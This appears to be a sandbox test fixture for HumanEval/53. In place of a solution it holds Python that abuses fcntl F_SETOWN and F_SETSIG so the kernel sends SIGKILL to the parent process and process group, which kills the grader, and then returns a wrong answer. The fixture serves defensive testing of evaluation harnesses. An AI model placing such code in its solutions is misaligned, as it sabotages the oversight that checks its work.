# task: HumanEval/53
# expect: not passed
# why: The kernel itself sends SIGKILL to the owner that F_SETOWN names.
    import fcntl, os, socket
    a, b = socket.socketpair()
    for pid in (os.getppid(), -os.getpgrp()):
        try:
            fcntl.fcntl(a, fcntl.F_SETOWN, pid)
            fcntl.fcntl(a, 10, 9)
            fcntl.fcntl(a, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
            b.send(b"x")
        except OSError:
            pass
    return 1 << 40
